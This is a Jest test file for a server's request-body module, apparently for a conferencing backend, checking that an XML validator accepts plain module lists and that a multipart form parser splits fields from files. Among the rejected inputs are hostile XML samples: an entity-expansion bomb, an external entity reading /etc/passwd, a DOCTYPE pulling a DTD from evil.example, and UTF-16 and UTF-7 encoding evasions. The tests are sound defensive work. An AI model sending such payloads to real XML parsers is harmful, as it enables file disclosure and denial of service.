import { isPlainXml, partsOf } from './request-body';

describe('XML that a server may be given', () => {
  const good: [string, Buffer][] = [
    ['modules', Buffer.from('<modules/>')],
    ['with a declaration', Buffer.from('<?xml version="1.0" encoding="UTF-8"?>\n<modules></modules>')],
    ['after a byte order mark', Buffer.from('\uFEFF<modules/>')],
    ['a comment first', Buffer.from('<!-- by Moodle --><modules/>')],
    ['a document type inside CDATA', Buffer.from('<modules><![CDATA[<!DOCTYPE x>]]></modules>')],
  ];
  test.each(good)('%s', (_what, content) => expect(isPlainXml(content)).toBe(true));
  const bad: [string, Buffer][] = [
    [
      'a bomb',
      Buffer.from('<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><modules>&b;</modules>'),
    ],
    ['an outer entity', Buffer.from('<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/passwd">]><m>&x;</m>')],
    ['hidden behind a comment', Buffer.from('<!-- x --> <!DOCTYPE m SYSTEM "http://evil.example/x.dtd"><m/>')],
    ['in UTF-16', Buffer.from('\uFEFF<!DOCTYPE m><m/>', 'utf16le')],
    ['in UTF-7', Buffer.from('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE m+AD4-<m/>')],
    ['not XML at all', Buffer.from('meetingID=x')],
    ['nothing but a prolog', Buffer.from('<?xml version="1.0"?>')],
    ['empty', Buffer.alloc(0)],
  ];
  test.each(bad)('%s', (_what, content) => expect(isPlainXml(content)).toBe(false));
});

test('of a form in parts the fields are taken and the files alone go on', async () => {
  const type = 'multipart/form-data; boundary=x';
  const body =
    '--x\r\ncontent-disposition: form-data; name="meetingID"\r\n\r\na & b\r\n' +
    '--x\r\ncontent-disposition: form-data; name="file"; filename="a.vtt"\r\ncontent-type: text/vtt\r\n\r\nWEBVTT\r\n--x--\r\n';
  const parts = await partsOf(type, Buffer.from(body));
  expect(parts?.fields).toBe('meetingID=a+%26+b');
  expect(parts?.files?.content.toString()).toContain('WEBVTT');
  expect(parts?.files?.content.toString()).not.toContain('meetingID');
  expect(await partsOf(type, Buffer.from('--x\r\nnonsense'))).toBeNull();
});
